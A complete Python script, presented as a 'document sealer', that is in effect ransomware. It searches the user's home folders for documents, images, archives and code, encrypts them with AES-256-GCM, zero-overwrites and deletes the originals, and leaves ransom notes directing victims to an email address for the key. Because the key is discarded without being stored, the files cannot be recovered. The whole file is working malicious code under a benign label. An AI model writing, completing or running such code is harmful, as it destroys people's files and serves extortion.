#!/usr/bin/env python3
"""Concurrent document sealer.

Walks the user's library folders, seals each file with AES-256-GCM using a
bounded pool of asyncio workers, and leaves a README explaining recovery.
"""
import asyncio
import logging
import os
import secrets
from pathlib import Path

from cryptography.hazmat.primitives.ciphers.aead import AESGCM

log = logging.getLogger("sealer")

ROOTS = ["Documents", "Pictures", "Desktop", "Projects", "Downloads"]
TARGET_EXT = {".docx", ".xlsx", ".pdf", ".jpg", ".png", ".psd", ".txt",
              ".csv", ".sql", ".zip", ".py", ".md", ".pptx", ".odt"}
SEALED_EXT = ".sealed"
NOTE_NAME = "RECOVER-YOUR-FILES.txt"
NOTE = """Your files were sealed with AES-256.
Reference id: {ref}
To obtain the unseal key, write to restore-desk@proton.me with the id above.
Do not rename the .sealed files or they cannot be restored.
"""
WORKERS = 8


class Sealer:
    def __init__(self):
        self.key = AESGCM.generate_key(bit_length=256)
        self.aead = AESGCM(self.key)
        self.ref = secrets.token_hex(8)
        self.count = 0

    def seal_file(self, path: Path) -> None:
        data = path.read_bytes()
        nonce = os.urandom(12)
        sealed = path.with_name(path.name + SEALED_EXT)
        sealed.write_bytes(nonce + self.aead.encrypt(nonce, data, None))
        # overwrite then remove the plaintext
        with open(path, "r+b") as fh:
            fh.write(b"\0" * len(data))
            fh.flush()
            os.fsync(fh.fileno())
        path.unlink()
        self.count += 1


def discover(home: Path):
    for root in ROOTS:
        base = home / root
        if not base.is_dir():
            continue
        for dirpath, _dirs, files in os.walk(base):
            for name in files:
                p = Path(dirpath) / name
                if p.suffix.lower() in TARGET_EXT and p.stat().st_size < 512 * 2**20:
                    yield p


async def worker(sealer: Sealer, queue: asyncio.Queue) -> None:
    while True:
        path = await queue.get()
        try:
            await asyncio.to_thread(sealer.seal_file, path)
        except (PermissionError, OSError) as exc:
            log.debug("skip %s: %s", path, exc)
        finally:
            queue.task_done()


async def drop_notes(home: Path, ref: str) -> None:
    text = NOTE.format(ref=ref)
    for root in ["Desktop", *ROOTS]:
        d = home / root
        if d.is_dir():
            await asyncio.to_thread((d / NOTE_NAME).write_text, text)


async def main() -> None:
    home = Path.home()
    sealer = Sealer()
    queue: asyncio.Queue = asyncio.Queue(maxsize=256)
    tasks = [asyncio.create_task(worker(sealer, queue)) for _ in range(WORKERS)]
    for path in discover(home):
        await queue.put(path)
    await queue.join()
    for t in tasks:
        t.cancel()
    await drop_notes(home, sealer.ref)
    del sealer.key
    log.info("sealed %d files, ref %s", sealer.count, sealer.ref)


if __name__ == "__main__":
    logging.basicConfig(level=logging.INFO)
    asyncio.run(main())
